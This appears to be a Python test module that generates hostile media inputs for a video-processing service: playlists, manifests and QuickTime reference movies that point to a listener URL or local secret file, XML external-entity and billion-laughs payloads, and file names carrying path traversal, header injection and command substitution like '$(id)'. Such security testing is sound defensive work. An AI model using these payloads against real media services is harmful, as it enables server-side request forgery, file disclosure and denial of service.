"""Files that reference other files, and invalid file names."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from functools import partial

from tests.hostile.boxes import box, chunk, replaced
from tests.hostile.item import FRAMES, SIZE, Item, Lure, base


def _instead(new: bytes, _old: bytes) -> bytes:
    return new


def fetching(lure: Lure) -> Iterator[Item]:
    """Files that reference an address with a listener or a secret on the disk."""
    url, path = lure.url, f"file://{lure.path}"
    for target_name, target in (("http", f"{url}/hls.ts"), ("file", path), ("relative", "canary.mp4"), ("concat", f"concat:{url}/a|{path}"),
                                ("subfile", f"subfile,,start,0,end,99,,:{lure.path}"), ("crypto", f"crypto+{url}/x"), ("data", "data:video/mp4;base64,AAAA"),
                                ("tcp", url.replace("http", "tcp")), ("gopher", url.replace("http", "gopher"))):  # fmt: skip
        playlist = f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9.0,\n{target}\n#EXT-X-ENDLIST\n".encode()
        for suffix in ("m3u8", "mp4", "M3U8"):
            yield Item("fetch", f"hls-{target_name}-{suffix}", playlist, file_name=f"x.{suffix}")
        yield Item("fetch", f"hls-{target_name}", playlist)
        concat = f"ffconcat version 1.0\nfile '{target}'\nduration 5\n".encode()
        yield Item("fetch", f"concat-{target_name}", concat, file_name="x.ffconcat")
        yield Item("fetch", f"m3u-{target_name}", f"#EXTM3U\n{target}\n".encode(), file_name="x.m3u")
    key = f'#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXT-X-MAP:URI="{url}/init"\n#EXTINF:9,\n{url}/a.ts\n'
    yield Item("fetch", "hls-key", key.encode(), file_name="x.m3u8")
    master = f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/low.m3u8\n"
    yield Item("fetch", "hls-master", master.encode(), file_name="x.m3u8")
    host, _, port = url.removeprefix("http://").partition(":")
    sdp = f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    yield Item("fetch", "sdp", sdp.encode(), file_name="x.sdp")
    yield Item(
        "fetch", "rtsp-link", f"RTSP/1.0 302 Moved\r\nLocation: {url}\r\n\r\n".encode(), file_name="x.rtsp"
    )
    mpd = f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1"><BaseURL>{url}/x.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>'
    yield Item("fetch", "dash", mpd.encode(), file_name="x.mpd")
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{path}">]><MPD>&x;</MPD>'
    yield Item("fetch", "xml-entity", entity.encode(), file_name="x.mpd")
    yield Item("fetch", "smil", f'<smil><body><video src="{url}/x.mp4"/></body></smil>'.encode())
    yield Item("fetch", "asx", f'<asx version="3.0"><entry><ref href="{url}/x"/></entry></asx>'.encode())
    yield Item("fetch", "pls", f"[playlist]\nFile1={url}/x.mp3\nNumberOfEntries=1\n".encode())
    yield Item("fetch", "image2-pattern", b"/etc/%d.png", file_name="%d.png")
    data = base()
    for name, kind in (("url", b"url "), ("urn", b"urn "), ("alis", b"alis"), ("rsrc", b"rsrc")):
        for target_name, target in (("http", f"{url}/ref.mov"), ("file", lure.path)):
            reference = box(kind, bytes(4), target.encode(), b"\0")
            table = box(b"dref", bytes(4), struct.pack(">I", 1), reference)
            yield Item(
                "fetch",
                f"dref-{name}-{target_name}",
                replaced(data, b"dref", partial(_instead, table)),
            )
    rmra = box(
        b"moov",
        box(
            b"rmra", box(b"rmda", box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(url)), url.encode()))
        ),
    )
    yield Item("fetch", "reference-movie", box(b"ftyp", b"qt  \0\0\2\0qt  ") + rmra)
    gab2 = (
        b"GAB2\0\x02\0\x08\0\0\0h\0l\0s\0\0\0\x04\0"
        + struct.pack("<I", len(url))
        + f"#EXTM3U\n#EXTINF:1,\n{url}/a\n".encode()
    )
    avi = base("avi", "mpeg4")
    at = avi.index(b"movi") + 4
    yield Item("fetch", "gab2", avi[:at] + chunk(b"00tx", gab2) + avi[at:])


def referring(lure: Lure) -> Iterator[Item]:
    """Other playlists, links and manifests; external movie data; text that a filter might draw."""
    url, path = lure.url, f"file://{lure.path}"
    for target_name, target in (("http", f"{url}/x"), ("file", path)):
        texts = {
            "asf-reference": f"[Reference]\r\nRef1={target}?MSWMExt=.asf\r\nRef2={target}\r\n",
            "asf-redirect": f"ASF {target}\r\n",
            "ram": f"{target}\n", "url": f"[InternetShortcut]\r\nURL={target}\r\n", "desktop": f"[Desktop Entry]\nType=Link\nURL={target}\n",
            "xspf": f'<playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>{target}</location></track></trackList></playlist>',
            "wpl": f'<?wpl version="1.0"?><smil><body><seq><media src="{target}"/></seq></body></smil>',
            "ism": f'<smil><body><switch><video src="{target}" systemBitrate="1"/></switch></body></smil>',
            "cpl": f'<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{target}</Id><SegmentList/></CompositionPlaylist>',
            "mpd": f'<?xml version="1.0"?><MPD xmlns:xlink="http://www.w3.org/1999/xlink"><Period xlink:href="{target}" xlink:actuate="onLoad"/></MPD>',
            "mpd-location": f'<MPD type="dynamic" minimumUpdatePeriod="PT1S"><Location>{target}</Location><BaseURL>{target}</BaseURL></MPD>',
            "qtl": f'<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="{target}"/>',
            "rtsptext": f"RTSPtext\r\n{target}\r\n", "swfobject": f"FWS\x09{target}",
        }  # fmt: skip
        for kind, text in texts.items():
            yield Item("fetch", f"{kind}-{target_name}", text.encode(), file_name=f"x.{kind}")
        for reference in (b"url ", b"alis", b"file"):
            place = target.encode() + b"\0"
            entry = box(b"rdrf", bytes(4), reference, struct.pack(">I", len(place)), place)
            movie = box(b"moov", box(b"rmra", box(b"rmda", entry), box(b"rmda", entry)))
            name = f"reference-movie-{reference.decode().strip()}-{target_name}"
            yield Item("fetch", name, box(b"ftyp", b"qt  \0\0\2\0qt  ") + movie)
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY l0 "ha">{laughs}]><MPD>&l11;</MPD>'
    yield Item("fetch", "xml-laughs", bomb.encode(), file_name="x.mpd")
    table = box(b"dref", bytes(4), struct.pack(">I", 1), box(b"alis", bytes(4), _alias(lure.path)))
    yield Item("fetch", "dref-alias-record", replaced(base(), b"dref", partial(_instead, table)))
    drawn = b"\x1b[2J" + (lure.path.encode() + b"\r\n") * 200
    for suffix in ("txt", "ans", "xb", "nfo", "bin", "idf", "adf", "diz"):
        yield Item("fetch", f"text-{suffix}", drawn, file_name=f"x.{suffix}")


def _alias(path: str) -> bytes:
    """An Alias Manager record of a mov file, with the path in entries 2 and 18."""
    folder, _, file = path.rpartition("/")
    name = file.encode()[:63]
    head = b"appl" + struct.pack(">HHH", 0, 2, 0) + b"\x01/" + bytes(26) + bytes(8)
    head += struct.pack(">I", 0) + bytes([len(name)]) + name.ljust(63, b"\0") + bytes(36)
    paths = b"".join(
        struct.pack(">HH", kind, len(text)) + text + b"\0" * (len(text) % 2)
        for kind, text in (
            (2, f"/:{path.replace('/', ':')}".encode()),
            (18, path.encode()),
            (19, folder.encode()),
        )
    )
    return head + paths + struct.pack(">HH", 0xFFFF, 0)


def names(lure: Lure) -> Iterator[Item]:
    """Valid videos with invalid file names."""
    data = base()
    file_names = (
        "../../etc/passwd", "/etc/passwd", "C:\\boot.ini", "a\0b.mp4", "a\r\nX-Injected: 1.mp4", "a\nb", '"quoted".mp4', "a;b=c.mp4",
        "x" * 4000, "\u202egnp.mp4", "\ud7ff\U0001f4a9.mp4", f"{lure.url}/x.mp4", f"concat:{lure.path}", f"subfile,,start,0,end,9,,:{lure.path}",
        f"file://{lure.path}", "pipe:0", "fd:", "cache:x", "x.m3u8", "x.ffconcat", "%d.png", "-", "--help", "$(id)", "`id`", "", ".", "..", "nul", "lavfi:testsrc",
    )  # fmt: skip
    for index, name in enumerate(file_names):
        yield Item("name", f"name-{index}", data, FRAMES, SIZE, file_name=name)
